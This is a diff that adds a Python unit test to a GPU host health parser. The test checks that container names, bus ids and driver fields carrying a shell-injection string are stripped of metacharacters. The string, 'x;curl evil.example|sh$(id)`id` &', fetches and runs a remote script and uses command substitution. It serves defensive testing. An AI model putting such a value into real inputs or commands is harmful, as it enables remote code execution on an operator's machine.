@@ -78,6 +78,36 @@ def test_a_number_without_end_is_none(name: str) -> None:
         )
 
 
+EVIL: Final = "x;curl evil.example|sh$(id)`id` &"
+
+
+def test_what_stands_in_commands_that_are_copied_is_a_name() -> None:
+    """A remedy names containers, GPUs and versions, and is pasted into the operator's own shell."""
+    row = [*("a", f"/{EVIL}", "i", "running", "none", 0, 0, False, "", "", "", None, [])]
+    health = parse_health(
+        _answer(
+            engine=f"--- container {json.dumps(row)}",
+            kernel=f"readable\nxid NVRM: Xid ({EVIL[:9]}): 79, x",
+            gpu_health=f'<gpu id="{EVIL.replace("&", "")}"></gpu></nvidia_smi_log>',
+        ),
+        WORD,
+    )
+    driver = f"module {EVIL}\nNVML library version: {EVIL}\nstatus 0"
+    facts = _facts(gpus=f"0,u,n,1,{EVIL}", driver=driver)
+    assert health.engine is not None
+    assert health.kernel is not None
+    assert health.gpu_health is not None
+    assert facts.driver is not None
+    words = [
+        health.engine.containers[0].name,
+        health.kernel.xids[0].bus_id,
+        health.gpu_health[0].bus_id,
+        facts.gpus[0].bus_id,
+    ]
+    words += [facts.driver.kernel_module or "", facts.driver.library or ""]
+    assert not set("".join(words)) & set(";|$(`&<> ")
+
+
 def test_a_section_that_says_more_than_it_can_is_unknown() -> None:
     """The script cuts it on the host; a host that answers more did not run the script."""
     answer = split(_answer(cpu="1", memory="2\n" * MOST), WORD, ("cpu", "memory"), 8)
